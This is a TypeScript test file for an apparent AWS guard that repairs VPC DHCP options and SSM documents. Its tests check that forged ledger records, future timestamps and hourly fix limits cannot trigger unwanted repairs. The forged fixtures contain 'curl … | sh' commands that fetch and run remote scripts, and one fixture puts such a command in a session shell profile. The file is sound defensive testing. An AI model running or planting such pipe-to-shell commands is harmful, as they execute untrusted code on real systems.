import { describe, expect, it } from 'vitest';
import type { ApiCall, RepairApi } from '../../functions/account/api-call.ts';
import { resource } from '../../functions/account/resource.ts';
import { createMemoryLedger } from '../../functions/adapters/memory/ledger.ts';
import type { Incident, RepairRecord } from '../../functions/core/ledger/ledger.ts';
import { incidentRow, type Row, repairRow } from '../../functions/core/ledger/rows/rows.ts';
import type { Outcome } from '../../functions/core/outcome.ts';
import type { JsonObject } from '../../functions/formats/json.ts';
import { content, DOCUMENT, VPC_ID } from '../support/samples/sample-account.ts';
import { associate, deleteDocument, update } from '../support/samples/sample-changes.ts';
import { type Bench, GOOD_INPUTS, later, remembering } from '../support/samples/sample-guard.ts';
import { sampleOutcome } from '../support/samples/sample-outcome.ts';

const VPC = resource('AWS::EC2::VPC', VPC_ID);
const FAR = '9999-01-01T00:00:00Z';

/** The bench goes on with a ledger that holds these rows besides what was good. */
const withRows = async (made: Bench, rows: readonly Row[], seenAt?: string): Promise<void> => {
  const { baselines } = await made.ports.ledger.load([VPC]);
  const ledger = createMemoryLedger(rows);
  for (const baseline of Object.values(baselines)) {
    if (baseline) await ledger.saveBaseline([baseline.snapshot], seenAt ?? baseline.seenAt);
  }
  made.ports = { ...made.ports, ledger };
};

const options = (DhcpOptionsId: string): ApiCall<RepairApi> => ({
  api: 'ec2:AssociateDhcpOptions',
  input: { VpcId: VPC_ID, DhcpOptionsId },
});

const EVIL: Outcome = {
  ...sampleOutcome(),
  prerequisite: 'vpc-name-resolution',
  findings: [],
  commands: { fix: ['curl https://example.com/x | sh'], undo: ['curl https://example.com/y | sh'] },
  links: { resource: 'https://example.com/login' },
  action: 'Run the command.',
};

const forged = (made: Bench, event: JsonObject, calls: RepairRecord['calls'], more = {}): Row =>
  repairRow({
    resource: VPC,
    eventId: String(event['eventID']),
    startedAt: made.now.toISOString(),
    calls,
    state: 'started',
    draft: EVIL,
    ...more,
  });

describe('a record of a repair that nobody began', () => {
  it.each<[string, readonly ApiCall<RepairApi>[]]>([
    ['another value', [options('dopt-other')]],
    [
      'another call of the same prerequisite',
      [{ api: 'ec2:ModifyVpcAttribute', input: { VpcId: VPC_ID, EnableDnsSupport: { Value: false } } }],
    ],
    ['the way back, and one call more', [options('dopt-amazon'), options('dopt-other')]],
    [
      'another VPC',
      [{ api: 'ec2:AssociateDhcpOptions', input: { VpcId: 'vpc-x', DhcpOptionsId: 'default' } }],
    ],
  ])('cannot ask for %s: the way back of the change is made', async (_, calls) => {
    const made = await remembering();
    const before = made.account.state();
    const event = associate(made, 'dopt-public');
    await withRows(made, [forged(made, event, calls)]);
    const outcome = await made.deliver(event, 'network');
    expect(made.written).toEqual(['ec2:AssociateDhcpOptions']);
    expect(made.account.state()).toEqual(before);
    expect(outcome.status).toBe('fixed');
  });

  it('cannot make a call after somebody changed the resource again', async () => {
    const made = await remembering();
    const event = associate(made, 'dopt-public');
    made.happen(options('default'));
    await withRows(made, [forged(made, event, [options('dopt-other')])]);
    const outcome = await made.deliver(event, 'network');
    expect(made.written).toEqual([]);
    expect(outcome).toMatchObject({
      status: 'fix-failed',
      action: expect.stringContaining('its calls are not those that this change calls for'),
    });
  });

  it('cannot make the guard do what it refuses', async () => {
    const made = await remembering();
    const userIdentity = { type: 'AWSService', invokedBy: 'config.amazonaws.com' };
    const event = associate(made, 'dopt-public', { more: { userIdentity } });
    await withRows(made, [forged(made, event, [options('dopt-amazon')])]);
    const outcome = await made.deliver(event, 'network');
    expect(made.written).toEqual([]);
    expect(outcome.action).toContain('it was interrupted, and the change was made by AWS Config remediation');
  });

  it('cannot speak in the name of the guard', async () => {
    const made = await remembering();
    for (const evil of [FAR, made.now.toISOString()]) {
      const event = associate(made, 'dopt-public');
      await withRows(made, [forged(made, event, [options('dopt-other')], { startedAt: evil })]);
      await made.deliver(event, 'network');
    }
    expect(made.published.length).toBeGreaterThan(0);
    expect(JSON.stringify(made.published)).not.toContain('example.com/');
  });

  it('of the future makes no call', async () => {
    const made = await remembering();
    const event = associate(made, 'dopt-public');
    await withRows(made, [forged(made, event, [options('dopt-amazon')], { startedAt: FAR })]);
    expect((await made.deliver(event, 'network')).status).toBe('fix-failed');
    expect(made.written).toEqual([]);
  });

  it('of the future uses up no budget', async () => {
    const made = await remembering({ settings: { fixBudget: 1 } });
    const event = associate(made, 'dopt-public');
    const more = { eventId: 'another', startedAt: FAR, state: 'told' };
    await withRows(made, [forged(made, event, [options('dopt-amazon')], more)]);
    expect((await made.deliver(event, 'network')).status).toBe('fixed');
  });
});

describe('a time of the ledger in the future', () => {
  it('does not keep a baseline fresh', async () => {
    const made = await remembering();
    await withRows(made, [], FAR);
    const outcome = await made.deliver(associate(made, 'dopt-public'), 'network');
    expect(outcome).toMatchObject({ status: 'alerted', action: expect.stringContaining('an unknown time') });
    expect(made.written).toEqual([]);
  });

  it('does not silence a break', async () => {
    const made = await remembering({ settings: { mode: 'alert' } });
    const incident: Incident = {
      prerequisite: 'vpc-name-resolution',
      subject: VPC,
      state: 'open',
      impact: 'sessions-fail',
      eventId: 'another',
      checkedAt: FAR,
      told: true,
    };
    await withRows(made, [incidentRow(incident)]);
    expect(await made.deliver(associate(made, 'dopt-public'), 'network')).toMatchObject({
      toldBefore: false,
    });
    expect(made.published).toHaveLength(1);
    const { incidents } = await made.ports.ledger.load([VPC]);
    expect(incidents).toMatchObject([{ checkedAt: made.now.toISOString(), told: true }]);
  });
});

describe('the sweep, and a time of the ledger in the future', () => {
  it('tells a repair that was begun then, and closes it', async () => {
    const made = await remembering();
    const event = associate(made, 'dopt-other');
    await withRows(made, [forged(made, event, [options('dopt-public')], { startedAt: FAR })]);
    await made.sweep();
    expect(made.published.some(({ action }) => action.startsWith('A repair'))).toBe(true);
    expect((await made.ports.ledger.open()).untold).toEqual([]);
    expect(made.written).toEqual([]);
  });
});

const document = resource('AWS::SSM::Document', DOCUMENT);

/** The ledger remembers this content as the good one. */
const remember = async (made: Bench, remembered: string): Promise<void> => {
  const { baselines } = await made.ports.ledger.load([document]);
  const [row] = Object.values(baselines);
  if (row?.snapshot.type !== 'AWS::SSM::Document') throw new Error('no document is remembered');
  const { value } = row.snapshot;
  const versions = { [value.latestVersion]: remembered };
  const defaultVersion = value.latestVersion;
  const snapshot = { type: 'AWS::SSM::Document', value: { ...value, defaultVersion, versions } } as const;
  await made.ports.ledger.saveBaseline([snapshot], row.seenAt);
};

const EVIL_SHELL = content({ ...GOOD_INPUTS, shellProfile: { linux: 'curl https://example.com | sh' } });

describe('a remembered document that shapes sessions in a new way', () => {
  it('is not created again by itself', async () => {
    const made = await remembering();
    await remember(made, EVIL_SHELL);
    const outcome = await made.deliver(deleteDocument(made));
    expect(outcome).toMatchObject({ status: 'alerted', action: expect.stringContaining('shell profile') });
    expect(made.written).toEqual([]);
  });

  it('is not put back where the account has another version that passes', async () => {
    const made = await remembering();
    await remember(made, EVIL_SHELL);
    await made.deliver(update(made, 'null'));
    expect(JSON.stringify(made.account.state().documents)).not.toContain('example.com');
  });

  it('is created again where it is a plain shell', async () => {
    const made = await remembering();
    expect((await made.deliver(deleteDocument(made))).status).toBe('fixed');
  });
});

describe('the fixes of an hour', () => {
  it('are counted across resources, and the next hour has its own', async () => {
    const made = await remembering({ settings: { fixesPerHour: 1, fixBudget: 20 } });
    expect((await made.deliver(associate(made, 'dopt-public'), 'network')).status).toBe('fixed');
    later(made, 10);
    const event = update(made, 'null');
    expect(await made.deliver(event)).toMatchObject({
      status: 'alerted',
      action: expect.stringContaining('an hour may hold no more automatic fixes (fixes-per-hour: 1)'),
    });
    later(made, 51);
    await made.sweep();
    expect((await made.deliver(associate(made, 'dopt-public'), 'network')).status).toBe('fixed');
  });

  it('are none where none are allowed', async () => {
    const made = await remembering({ settings: { fixesPerHour: 0 } });
    expect((await made.deliver(associate(made, 'dopt-public'), 'network')).status).toBe('alerted');
    expect(made.written).toEqual([]);
  });

  it('are none where they cannot be counted', async () => {
    const made = await remembering();
    const beginRepair = () => Promise.reject(new Error('throttled'));
    made.ports = { ...made.ports, ledger: { ...made.ports.ledger, beginRepair } };
    expect((await made.deliver(associate(made, 'dopt-public'), 'network')).status).toBe('alerted');
    expect(made.written).toEqual([]);
  });
});

describe('an event that comes late', () => {
  it('is not put back where all was whole after it: somebody else broke it since', async () => {
    const made = await remembering();
    const alice = associate(made, 'dopt-public');
    later(made, 8);
    made.happen(options('dopt-amazon'));
    await made.sweep();
    later(made, 1);
    made.happen(options('dopt-public'));
    const outcome = await made.deliver(alice, 'network');
    expect(outcome).toMatchObject({
      status: 'superseded',
      because: expect.stringContaining('after this change, so something else broke it'),
    });
    expect(made.published).toMatchObject([{ status: 'alerted', actor: null, attribution: 'none' }]);
    expect(made.written).toEqual([]);
  });

  it('is not put back after days', async () => {
    const made = await remembering();
    const event = associate(made, 'dopt-public');
    later(made, 10 * 24 * 60);
    expect((await made.deliver(event, 'network')).action).toContain('older than 3 hours');
    expect(made.written).toEqual([]);
  });
});
